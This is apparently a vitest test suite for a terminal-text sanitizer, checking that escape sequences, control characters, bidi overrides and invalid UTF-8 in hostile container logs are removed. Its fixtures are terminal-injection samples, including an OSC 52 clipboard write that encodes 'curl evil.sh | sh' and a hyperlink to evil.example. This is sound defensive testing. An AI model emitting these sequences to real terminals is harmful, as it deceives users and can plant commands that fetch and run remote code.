/**
 * A table of what a hostile container log can send to a terminal, and what must be left of it:
 * plain text that cannot move the cursor, rewrite the title, reach the clipboard, ring the bell
 * or overwrite a line. Beyond the owner's tests: every family of escape, the 8-bit forms, bytes
 * that are not UTF-8, and sizes that would make a careless pattern slow.
 */
import {describe, expect, test} from 'vitest';
import {decodeTerminalBytes, neutralizeTerminalText} from '../../source/core/neutralize-terminal-text.js';

// What must never be left: C0 controls other than tab and newline, DEL, C1 controls, bidi overrides.
const unsafe = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

describe('escape sequences are removed, the text around them kept', () => {
	test.each([
		['SGR colour', 'a\u001B[1;31mred\u001B[0m', 'ared'],
		['OSC 0 window title, ended by BEL', '\u001B]0;you have been pwned\u0007after', 'after'],
		['OSC 2 title, ended by ST', '\u001B]2;pwned\u001B\\after', 'after'],
		['OSC 52 write to the clipboard', '\u001B]52;c;Y3VybCBldmlsLnNoIHwgc2gK\u0007after', 'after'],
		['OSC 8 hyperlink to somewhere else', '\u001B]8;;https://evil.example\u0007click\u001B]8;;\u0007', 'click'],
		['DCS request', '\u001BP$q"p\u001B\\after', 'after'],
		['APC (kitty graphics)', '\u001B_Ga=T,f=100;AAAA\u001B\\after', 'after'],
		['PM and SOS strings', '\u001B^private\u001B\\\u001BXstart\u001B\\after', 'after'],
		['cursor position, up, erase line', '\u001B[10;20H\u001B[5A\u001B[2Kafter', 'after'],
		['clear screen and home', '\u001B[2J\u001B[Hafter', 'after'],
		['alternate screen and hidden cursor', '\u001B[?1049h\u001B[?25lafter', 'after'],
		['save and restore cursor, reverse index', '\u001B7\u001B8\u001BMafter', 'after'],
		['full reset', '\u001Bcafter', 'after'],
		['DEC screen alignment test', '\u001B#8after', 'after'],
		['character set switch', '\u001B(0lqk\u001B(B', 'lqk'],
		['an ESC before a CSI', '\u001B\u001B[31mafter', 'after'],
		['a lone ESC at the very end', 'after\u001B', 'after'],
		['8-bit CSI', 'a\u009B2Jafter', 'aafter'],
		['8-bit OSC ended by 8-bit ST', '\u009D0;pwned\u009Cafter', 'after'],
		['8-bit DCS', '\u0090q\u009Cafter', 'after'],
		['a mouse report', '\u001B[<0;10;10Mafter', 'after'],
	])('%s', (_name, input, expected) => {
		expect(neutralizeTerminalText(input)).toBe(expected);
	});
});

describe('control characters', () => {
	test.each([
		['bell', 'ding\u0007dong', 'dingdong'],
		['NUL', 'a\u0000b', 'ab'],
		['DEL', 'a\u007Fb', 'ab'],
		['vertical tab and form feed', 'a\u000Bb\u000Cc', 'abc'],
		['backspaces that would overwrite a word', 'secret\b\b\b\b\b\bpublic', 'secretpublic'],
		['C1 next line', 'a\u0085b', 'ab'],
		['bidi overrides that reverse what is read', 'access\u202Edenied\u2066x\u2069', 'accessdeniedx'],
		['a lone CR that would let a line overwrite itself', 'rm -rf /tmp/cache\rls', 'rm -rf /tmp/cache^Mls'],
		['a progress bar redrawn with CR', 'Downloading 10%\rDownloading 100%', 'Downloading 10%^MDownloading 100%'],
		['CRLF line endings', 'one\r\ntwo\r\n', 'one\ntwo\n'],
		['tabs and newlines stay', 'a\tb\nc', 'a\tb\nc'],
	])('%s', (_name, input, expected) => {
		expect(neutralizeTerminalText(input)).toBe(expected);
	});
});

describe('bytes that are not UTF-8', () => {
	test.each([
		['a stray continuation byte', [0x61, 0x80, 0x62], 'a\uFFFDb'],
		['an overlong encoding of "/"', [0x61, 0xC0, 0xAF, 0x62], 'a\uFFFD\uFFFDb'],
		['an encoded surrogate', [0x61, 0xED, 0xA0, 0x80, 0x62], 'a\uFFFD\uFFFD\uFFFDb'],
		['a sequence cut at the end', [0x61, 0xE2, 0x80], 'a\uFFFD'],
		['0xFF and 0xFE', [0xFF, 0xFE, 0x61], '\uFFFD\uFFFDa'],
	])('%s becomes U+FFFD', (_name, bytes, expected) => {
		expect(neutralizeTerminalText(decodeTerminalBytes(new Uint8Array(bytes)))).toBe(expected);
	});

	test('a C1 CSI encoded in UTF-8 (C2 9B) is decoded and then removed', () => {
		expect(neutralizeTerminalText(decodeTerminalBytes(new Uint8Array([0x61, 0xC2, 0x9B, 0x32, 0x4A, 0x62])))).toBe('ab');
	});
});

describe('evidence is not lost', () => {
	test('an unterminated OSC on one line hides none of the lines after it', () => {
		// A terminal would swallow the rest; a diagnosis must not: the real error usually comes next.
		expect(neutralizeTerminalText('starting\u001B]0;never ended\nFATAL: data directory has wrong ownership\nexit 1'))
			.toBe('starting\nFATAL: data directory has wrong ownership\nexit 1');
	});

	test('an unterminated DCS hides none of the lines after it', () => {
		expect(neutralizeTerminalText('\u001BPq#0;2;0\nError: EACCES: permission denied')).toBe('\nError: EACCES: permission denied');
	});
});

describe('size', () => {
	test('a megabyte of half-open escapes leaves nothing unsafe and the line after them', () => {
		const text = `${'\u001B['.repeat(500_000)}\nafter`;
		const result = neutralizeTerminalText(text);
		expect(result).not.toMatch(unsafe);
		expect(result).toBe('\nafter');
	});

	test('a megabyte of OSC introducers without a terminator leaves nothing unsafe', () => {
		const result = neutralizeTerminalText(`${'\u001B]0;x'.repeat(200_000)}`);
		expect(result).not.toMatch(unsafe);
	});

	test('a megabyte on one line is cut to the line limit', () => {
		const result = neutralizeTerminalText('x'.repeat(1024 * 1024), {maximumLineLength: 1000});
		expect(result).toHaveLength(1000);
		expect(result.endsWith('…')).toBe(true);
	});

	test('every mix of the sequences above leaves nothing unsafe', () => {
		const pieces = ['\u001B[', '\u001B]', '\u001BP', '\u001B\\', '\u0007', '\u009B', '\u009D', '\u009C', '\r', '\u0000', 'a', ';', '1', 'm', '\n', '\u202E'];
		let state = 7;
		for (let round = 0; round < 2000; round++) {
			let text = '';
			for (let index = 0; index < 24; index++) {
				state = ((state * 1_103_515_245) + 12_345) >>> 0;
				text += pieces[state % pieces.length];
			}

			expect(neutralizeTerminalText(text), JSON.stringify(text)).not.toMatch(unsafe);
		}
	});
});
